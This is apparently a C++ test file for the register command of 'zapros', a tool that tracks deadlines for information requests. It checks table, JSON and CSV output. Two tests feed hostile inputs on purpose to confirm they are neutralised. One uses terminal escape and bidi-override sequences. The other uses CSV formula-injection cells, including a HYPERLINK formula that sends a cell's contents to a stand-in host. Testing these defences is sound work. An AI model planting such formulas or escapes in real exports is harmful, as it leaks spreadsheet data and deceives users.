// The register as text (cli/register.hpp): zapros list's table, JSON and CSV schemas, the CI
// summary's section, and the command end to end.
#include <catch2/catch.hpp>

#include <set>

#include "cli/register.hpp"
#include "cli/report.hpp"
#include "json.hpp"
#include "support.hpp"

using namespace zapros;
using namespace zapros::cli;
using records::Row;
using records::Status;

namespace {

Row due_row() {
    Row r;
    r.file = "requests/a.md";
    r.title = "Запрос о бюджете";
    r.addressee = "Министерство\nул. Ильинка, 9";
    r.number = "12/3";
    r.date = request::Date{2026, 10, 30};
    r.sent = request::Date{2026, 10, 31};
    r.delivered = request::Date{2026, 11, 2};
    r.notice_due = request::Date{2026, 11, 5};
    r.answer_due = request::Date{2026, 11, 9};
    r.status = Status::due;
    r.days = 3;
    return r;
}

std::vector<std::string> lines_of(const std::string& text, const std::string& end = "\n") {
    std::vector<std::string> out;
    for (std::size_t at = 0, stop; at < text.size(); at = stop + end.size()) {
        stop = text.find(end, at);
        if (stop == std::string::npos) stop = text.size();
        out.push_back(text.substr(at, stop - at));
    }
    return out;
}

// The display column where `needle` starts in line.
std::size_t column_of(const std::string& line, const std::string& needle) {
    const std::size_t at = line.find(needle);
    REQUIRE(at != std::string::npos);
    return display_width(line.substr(0, at));
}

// Each of parts occurs in text, in this order.
void check_in_order(const std::string& text, const std::vector<std::string>& parts) {
    std::size_t at = 0;
    for (const std::string& p : parts) {
        INFO(p);
        const std::size_t found = text.find(p);
        REQUIRE(found != std::string::npos);
        CHECK(found >= at);
        at = found;
    }
}

}  // namespace

TEST_CASE("a date for --today is a real YYYY-MM-DD day", "[register]") {
    CHECK(parse_iso_date("2024-02-29") == request::Date{2024, 2, 29});
    CHECK_FALSE(parse_iso_date("2025-02-29"));
    CHECK_FALSE(parse_iso_date("2025-2-9"));
    CHECK_FALSE(parse_iso_date("2025-02-0x"));
    CHECK_FALSE(parse_iso_date("20250209"));
}

TEST_CASE("display width: Cyrillic one column, wide characters two, combining marks none", "[register]") {
    CHECK(display_width("Дума") == 4);
    CHECK(display_width("議会") == 4);
    CHECK(display_width("е\xcc\x81") == 1);  // е + U+0301
}

TEST_CASE("the table aligns its columns by display width, whatever the script", "[register]") {
    Row a = due_row();
    Row b = due_row();
    b.file = "requests/b.md";
    b.title = "議会への質問";  // six wide characters: twelve columns
    b.addressee = "Дума";
    b.number.clear();
    b.status = Status::draft;
    const std::vector<std::string> lines = lines_of(register_table({a, b}));
    REQUIRE(lines.size() == 3);
    CHECK(lines[0].rfind("file ", 0) == 0);
    // Each column starts at one display column on every line.
    const std::size_t addressee = column_of(lines[0], "addressee");
    CHECK(column_of(lines[1], "Министерство, ул. Ильинка, 9") == addressee);  // its lines as one
    CHECK(column_of(lines[2], "Дума") == addressee);
    const std::size_t status = column_of(lines[0], "status");
    CHECK(column_of(lines[1], "due in 3 days") == status);
    CHECK(column_of(lines[2], "draft") == status);
    CHECK(column_of(lines[2], "—") == column_of(lines[0], "number"));  // no number
}

TEST_CASE("the table cuts a long title or addressee to 40 columns with an ellipsis; JSON and CSV keep it whole", "[register]") {
    CHECK(cut_to_columns("Дума", 40) == "Дума");
    CHECK(cut_to_columns(std::string(40, 'a'), 40) == std::string(40, 'a'));
    CHECK(cut_to_columns(std::string(41, 'a'), 40) == std::string(39, 'a') + "…");
    CHECK(cut_to_columns("議会への質問", 5) == "議会…");  // two wide characters and the ellipsis: 5 columns
    CHECK(cut_to_columns("Министерство; Дума", 14) == "Министерство…");  // no separator before the ellipsis
    Row r = due_row();
    r.addressee = "Министерство иностранных дел Российской Федерации; Федеральная служба безопасности";
    const std::vector<std::string> lines = lines_of(register_table({r}));
    REQUIRE(lines.size() == 2);
    CHECK(lines[1].find("Министерство иностранных дел Российской…") != std::string::npos);
    CHECK(lines[1].find("Федеральная") == std::string::npos);
    CHECK(display_width(lines[1]) < 200);
    CHECK(register_csv({r}).find("Федеральная служба безопасности") != std::string::npos);
    CHECK(register_json({r}).find("Федеральная служба безопасности") != std::string::npos);
}

TEST_CASE("the table prints no control a terminal would act on: C0, C1 or a bidi override", "[register]") {
    Row a = due_row();
    // ESC ] … BEL sets a terminal's title; U+009B is CSI by itself; U+0085 is NEL; U+202E
    // reverses what follows; U+2066 opens an isolate.
    a.title = "A\x1b]0;x\x07" "B\xc2\x9b" "31mC\xe2\x80\xae" "D\xe2\x81\xa6" "E";
    a.addressee = "M\xc2\x85N";
    const std::string table = register_table({a});
    for (const char* control : {"\x1b", "\x07", "\xc2\x9b", "\xc2\x85", "\xe2\x80\xae", "\xe2\x81\xa6"}) {
        INFO(control);
        CHECK(table.find(control) == std::string::npos);
    }
    CHECK(table.find("A ]0;x B 31mC D E") != std::string::npos);  // each a space, the text kept
    CHECK(table.find("M N") != std::string::npos);
}

TEST_CASE("JSON: an array of objects with fixed keys, dates ISO or null", "[register]") {
    Row b;
    b.file = "b.md";
    const test::Json j = test::parse_json(register_json({due_row(), b}));
    REQUIRE(j.kind == test::Json::Kind::array);
    REQUIRE(j.a.size() == 2);
    const std::set<std::string> keys{"file", "title", "addressee", "number", "date", "sent", "delivered",
                                     "notice_due", "answer_due", "answered", "status", "status_text", "days"};
    for (const test::Json& o : j.a) {
        std::set<std::string> got;
        for (const auto& [k, v] : o.o) got.insert(k);
        CHECK(got == keys);
    }
    CHECK(j.a[0]["addressee"].s == "Министерство\nул. Ильинка, 9");
    CHECK(j.a[0]["delivered"].s == "2026-11-02");
    CHECK(j.a[0]["answer_due"].s == "2026-11-09");
    CHECK(j.a[0]["answered"].kind == test::Json::Kind::null);
    CHECK(j.a[0]["status"].s == "due");
    CHECK(j.a[0]["status_text"].s == "due in 3 days");
    CHECK(j.a[0]["days"].n == 3);
    CHECK(j.a[1]["date"].kind == test::Json::Kind::null);
    CHECK(j.a[1]["status"].s == "draft");
    CHECK(test::parse_json(register_json({})).a.empty());
}

TEST_CASE("CSV: RFC 4180, a header row, quotes around commas, quotes and line ends", "[register]") {
    Row r = due_row();
    r.title = "О \"бюджете\", 2026";
    const std::string csv = register_csv({r});
    const std::vector<std::string> lines = lines_of(csv, "\r\n");
    REQUIRE(lines.size() == 2);
    CHECK(lines[0] == "file,title,addressee,number,date,sent,delivered,notice_due,answer_due,answered,status");
    CHECK(lines[1] ==
          "requests/a.md,\"О \"\"бюджете\"\", 2026\",\"Министерство\nул. Ильинка, 9\",12/3,2026-10-30,2026-10-31,"
          "2026-11-02,2026-11-05,2026-11-09,,due in 3 days");
    CHECK(csv.size() >= 2);
    CHECK(csv.substr(csv.size() - 2) == "\r\n");
}

TEST_CASE("CSV: a cell a spreadsheet would run as a formula starts with an apostrophe", "[register]") {
    Row r = due_row();
    r.title = "=HYPERLINK(\"http://example.org/?\"&A1)";
    r.addressee = "@SUM(1+1)";
    r.number = "+7";
    r.file = "-2.md";
    const std::vector<std::string> lines = lines_of(register_csv({r}), "\r\n");
    REQUIRE(lines.size() == 2);
    CHECK(lines[1].rfind("'-2.md,\"'=HYPERLINK(\"\"http://example.org/?\"\"&A1)\",'@SUM(1+1),'+7,2026-10-30,", 0) == 0);
    r.title = "\t=1";  // a tab or CR first, then the formula
    CHECK(lines_of(register_csv({r}), "\r\n")[1].find(",'\t=1,") != std::string::npos);
    r.title = "Запрос = 1";  // a sign inside is text already
    CHECK(lines_of(register_csv({r}), "\r\n")[1].find(",Запрос = 1,") != std::string::npos);
}

TEST_CASE("the summary's register lists overdue rows first, then the due soonest", "[register]") {
    Row due = due_row(), over = due_row(), draft = due_row();
    due.file = "due.md";
    over.file = "over.md";
    over.status = Status::overdue;
    over.days = 2;
    draft.file = "draft.md";
    draft.status = Status::draft;
    const std::string md = register_markdown({draft, due, over});
    check_in_order(md, {"| overdue by 2 days | over.md |", "| due in 3 days | due.md |", "| draft | draft.md |"});
    CHECK(md.find("Министерство, ул. Ильинка, 9") != std::string::npos);
}

TEST_CASE("the years a term ran through without a known decree are named", "[register]") {
    Row r = due_row();
    r.delivered = request::Date{2026, 12, 28};
    r.answer_due = request::Date{2027, 1, 11};
    CHECK(unknown_calendar_years({r}) == std::vector<int>{2027});
    CHECK(unknown_calendar_years({due_row()}).empty());
}

TEST_CASE("zapros list prints every good request and the diagnostics of a broken one, exit 1", "[register]") {
    const auto dir = test::temp_dir("list");
    test::write(dir / "good.md", test::request_text("title: Запрос, о бюджете\nto: Министерство\n"));
    test::write(dir / "bad.md", test::request_text("to: Министерство\n"));
    const test::Run csv = test::run_zapros({"list", "good.md", "bad.md", "--format", "csv", "--today", "2026-11-30"}, dir);
    CHECK(csv.status == 1);
    CHECK(csv.err.find("bad.md:") != std::string::npos);
    CHECK(csv.out.find("good.md,\"Запрос, о бюджете\",Министерство,,,,,,,,draft\r\n") != std::string::npos);
    CHECK(csv.out.find("bad.md") == std::string::npos);
    const test::Run table = test::run_zapros({"list", "good.md"}, dir);
    CHECK(table.status == 0);
    CHECK(table.out.find("draft") != std::string::npos);
}

TEST_CASE("zapros list refuses an unknown format and a date that is none", "[register]") {
    CHECK(test::run_zapros({"list", "x.md", "--format", "xml"}).status == 2);
    CHECK(test::run_zapros({"list", "x.md", "--today", "2026-02-30"}).status == 2);
}

TEST_CASE("the CI summary shows the register only once a request was sent", "[register][ci]") {
    InputReport drafted;
    drafted.file = "a.md";
    drafted.ok = true;
    Row draft = due_row();
    draft.status = Status::draft;
    drafted.register_rows = {draft};
    CHECK(summary_markdown({drafted}, {}, {}).find("#### Register") == std::string::npos);
    InputReport sent = drafted;
    sent.file = "b.md";
    sent.register_rows = {due_row()};
    const std::string md = summary_markdown({drafted, sent}, {}, {});
    REQUIRE(md.find("#### Register") != std::string::npos);
    CHECK(md.find("| due in 3 days | requests/a.md |") > md.find("#### Register"));
    CHECK(md.find("| draft | requests/a.md |") != std::string::npos);
}

namespace {

const std::string split_yaml =
    "title: Запрос\n"
    "split: true\n"
    "sent: 2026-11-02\n"
    "delivered: 2026-11-02\n"
    "to:\n"
    "  - name: Министерство\n"
    "  - name: Мэрия\n"
    "    delivered: 2026-11-09\n"
    "  - name: Дума\n"
    "    answered: 2026-11-05\n";

}  // namespace

TEST_CASE("zapros list gives a split request a row per addressee from the front matter's dates", "[register]") {
    const auto dir = test::temp_dir("list-split");
    test::write(dir / "split.md", test::request_text(split_yaml));
    const test::Run r = test::run_zapros({"list", "split.md", "--format", "json", "--today", "2026-11-12"}, dir);
    REQUIRE(r.status == 0);
    const test::Json j = test::parse_json(r.out);
    REQUIRE(j.a.size() == 3);
    // Delivered Monday 2 November: the answer due Monday the 9th, three days past on the 12th.
    CHECK(j.a[0]["addressee"].s == "Министерство");
    CHECK(j.a[0]["answer_due"].s == "2026-11-09");
    CHECK(j.a[0]["status_text"].s == "overdue by 3 days");
    // Its own delivery on the 9th: day 7 Monday the 16th, four days ahead.
    CHECK(j.a[1]["sent"].s == "2026-11-02");
    CHECK(j.a[1]["status_text"].s == "due in 4 days");
    CHECK(j.a[2]["status"].s == "answered");
}

TEST_CASE("zapros list notes a year whose transfer decree it does not know", "[register]") {
    const auto dir = test::temp_dir("list-unknown-year");
    test::write(dir / "late.md", test::request_text("title: Запрос\nto: Министерство\ndelivered: 2026-12-28\n"));
    const test::Run r = test::run_zapros({"list", "late.md", "--today", "2026-12-30"}, dir);
    REQUIRE(r.status == 0);
    // Day 7 is Monday 4 January 2027, inside 1–8 January; 9–10 January a weekend → the 11th.
    CHECK(r.out.find("2027-01-11") != std::string::npos);
    CHECK(r.err.find("in 2027") != std::string::npos);
    CHECK(r.err.find("art. 112") != std::string::npos);
}

TEST_CASE("render --summary adds the register, overdue first, once a request was sent", "[register][ci]") {
    const auto dir = test::temp_dir("summary-register");
    test::write(dir / "a-draft.md", test::request_text("title: Черновик\nto: Мэрия\n"));
    test::write(dir / "b-sent.md", test::request_text("title: Отправлен\nto: Министерство\ndelivered: 2026-11-02\n"));
    const test::Run r = test::run_zapros(
        {"render", "a-draft.md", "b-sent.md", "-d", "out", "--summary", "summary.md", "--today", "2026-11-12"}, dir);
    REQUIRE(r.status == 0);
    check_in_order(test::read(dir / "summary.md"),
                   {"#### Register", "| overdue by 3 days | b-sent.md |", "| draft | a-draft.md |"});
}
